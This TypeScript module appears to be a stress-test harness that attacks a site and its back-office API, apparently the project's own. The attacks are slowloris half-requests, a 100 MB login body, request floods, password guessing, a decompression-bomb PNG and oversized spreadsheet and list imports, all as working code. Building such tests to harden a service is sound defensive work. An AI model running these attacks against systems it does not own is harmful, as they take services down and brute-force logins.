import { once } from 'node:events';
import { connect } from 'node:net';
import { createDeflate, crc32 } from 'node:zlib';
import { zipSync, strToU8 } from 'fflate';

export interface Target {
  /** Origins without a slash at their end. */
  site: string;
  desk: string;
  /** Of somebody on staff: files come from inside. */
  token(): string;
}

export interface Attack {
  id: string;
  /** As the table shows it. */
  name: string;
  /** Made before the first blow, so that making it is no part of what is measured. */
  forge?(): Promise<void>;
  /** One blow; it is dealt again until the time is up. Never rejects, and has ended soon after `over`, whatever the other side does. */
  blow(target: Target, over: AbortSignal): Promise<void>;
  /** How many at once. */
  width: number;
}

const ignore = (work: Promise<unknown>) =>
  work.then(
    () => undefined,
    () => undefined,
  );
const json = { 'content-type': 'application/json' };
/** Nobody holds on longer than this, nor longer than the attack lasts. */
const longestMs = 20_000;
const giveUp = (over: AbortSignal) => AbortSignal.any([over, AbortSignal.timeout(longestMs)]);

/** A log-in with a password of `megabytes`, in chunks, so that its length is not told beforehand. */
function hugeLogin(desk: string, megabytes: number, over: AbortSignal): Promise<void> {
  const piece = new TextEncoder().encode('x'.repeat(1024 * 1024));
  let left = megabytes;
  const body = new ReadableStream({
    start: (controller) =>
      controller.enqueue(new TextEncoder().encode('{"email":"admin@chengxin.example","password":"')),
    pull: (controller) => (left-- > 0 ? controller.enqueue(piece) : controller.close()),
  });
  return ignore(
    fetch(`${desk}/api/users/login`, {
      method: 'POST',
      headers: json,
      body,
      duplex: 'half',
      signal: giveUp(over),
    } as RequestInit & { duplex: 'half' }).then((r) => r.arrayBuffer()),
  );
}

/** Half a request, held as long as the other side bears it. */
const halfRequest = (origin: string, over: AbortSignal): Promise<void> =>
  new Promise((done) => {
    if (over.aborted) return done();
    const { hostname, port } = new URL(origin);
    const socket = connect(Number(port), hostname, () => socket.write('GET / HTTP/1.1\r\nHost: a\r\nX-Slow: '));
    const hangUp = () => socket.destroy();
    const timer = setTimeout(hangUp, longestMs);
    over.addEventListener('abort', hangUp, { once: true });
    socket
      .on('error', () => undefined)
      .on('close', () => {
        clearTimeout(timer);
        over.removeEventListener('abort', hangUp);
        done();
      });
  });

async function upload(
  { desk, token }: Target,
  bytes: Uint8Array,
  name: string,
  type: string,
  over: AbortSignal,
): Promise<void> {
  const form = new FormData();
  form.set('_payload', JSON.stringify({ alt: '一张来路不明的图' }));
  form.set('file', new File([new Uint8Array(bytes)], name, { type }));
  // As bytes: a form that is given up while its file is still being read ends the process that sends it (Node 24's own fetch).
  const whole = new Response(form);
  const multipart = whole.headers.get('content-type') ?? '';
  const body = new Uint8Array(await whole.arrayBuffer());
  await ignore(
    fetch(`${desk}/api/media`, {
      method: 'POST',
      headers: { authorization: `JWT ${token()}`, 'content-type': multipart },
      body,
      signal: giveUp(over),
    }).then((r) => r.arrayBuffer()),
  );
}

const importList = ({ desk, token }: Target, bytes: Uint8Array, name: string, over: AbortSignal): Promise<void> =>
  ignore(
    fetch(
      `${desk}/api/lexicons/import?name=${name}&slug=siege&title=x&group=wording&edition=2026-01-01&owner=x&source=x&dry=1`,
      {
        method: 'POST',
        headers: { authorization: `JWT ${token()}` },
        body: new Uint8Array(bytes),
        signal: giveUp(over),
      },
    ).then((r) => r.arrayBuffer()),
  );

/** A PNG of a few hundred kilobytes that unpacks to `side` × `side` pixels; packed row by row, beside everything else. */
async function bombPng(side: number): Promise<Uint8Array> {
  const chunk = (kind: string, body: Buffer) => {
    const named = Buffer.concat([Buffer.from(kind, 'latin1'), body]);
    const whole = Buffer.alloc(named.length + 8);
    whole.writeUInt32BE(body.length, 0);
    named.copy(whole, 4);
    whole.writeUInt32BE(crc32(named), named.length + 4);
    return whole;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', await packed(side + 1, side)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** `rows` rows of nothing, deflated. */
async function packed(width: number, rows: number): Promise<Buffer> {
  const deflate = createDeflate();
  const pieces: Buffer[] = [];
  const ended = once(
    deflate.on('data', (piece: Buffer) => pieces.push(piece)),
    'end',
  );
  const row = Buffer.alloc(width);
  for (let n = 0; n < rows; n += 1) if (!deflate.write(row)) await once(deflate, 'drain');
  deflate.end();
  await ended;
  return Buffer.concat(pieces);
}

/** A sheet of one cell, far out. */
const farCell = zipSync({
  '[Content_Types].xml': strToU8('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
  'xl/workbook.xml': strToU8(
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="r"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
  ),
  'xl/worksheets/sheet1.xml': strToU8(
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="ZZZZZZZ1" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>',
  ),
});
let longList: Uint8Array | undefined;
let bomb: Uint8Array | undefined;
let photo: Uint8Array | undefined;

/** The attacks of docs/decisions/023, as anybody or a careless colleague can make them. */
export const attacks: readonly Attack[] = [
  { id: 'login', name: '超长登录', width: 4, blow: ({ desk }, over) => hugeLogin(desk, 100, over) },
  { id: 'slow', name: '半个请求', width: 1_100, blow: ({ site }, over) => halfRequest(site, over) },
  { id: 'slow-desk', name: '半个请求（后台）', width: 700, blow: ({ desk }, over) => halfRequest(desk, over) },
  {
    id: 'query',
    name: '乱加参数',
    width: 50,
    blow: ({ site }, over) =>
      ignore(fetch(`${site}/?x=${Math.random()}`, { signal: giveUp(over) }).then((r) => r.arrayBuffer())),
  },
  {
    id: 'address',
    name: '乱编网址和搜索',
    width: 50,
    blow: ({ site }, over) =>
      ignore(
        fetch(Math.random() < 0.5 ? `${site}/x${Math.random()}/` : `${site}/search/?q=${Math.random()}`, {
          signal: giveUp(over),
        }).then((r) => r.arrayBuffer()),
      ),
  },
  {
    id: 'guess',
    name: '猜密码',
    width: 30,
    blow: ({ desk }, over) =>
      ignore(
        fetch(`${desk}/api/users/login`, {
          method: 'POST',
          headers: json,
          body: JSON.stringify({ email: `nobody${Math.random()}@desk.example`, password: 'guess 1 of many' }),
          signal: giveUp(over),
        }).then((r) => r.arrayBuffer()),
      ),
  },
  {
    id: 'lists',
    name: '词表炸弹',
    width: 2,
    forge: async () =>
      void (longList ??= strToU8(
        `错误写法,正确写法\n${Array.from({ length: 40_000 }, (_, i) => `错${i}词,对${i}词`).join('\n')}`,
      )),
    blow: async (target, over) => {
      await importList(target, farCell, 'far.xlsx', over);
      if (longList) await importList(target, longList, 'long.csv', over);
    },
  },
  {
    id: 'photos',
    name: '照片和解压炸弹',
    width: 3,
    forge: async () => {
      bomb ??= await bombPng(20_000);
      photo ??= await bombPng(7_900);
    },
    blow: async (target, over) => {
      if (bomb) await upload(target, bomb, 'bomb.png', 'image/png', over);
      if (photo) await upload(target, photo, 'photo.png', 'image/png', over);
    },
  },
];
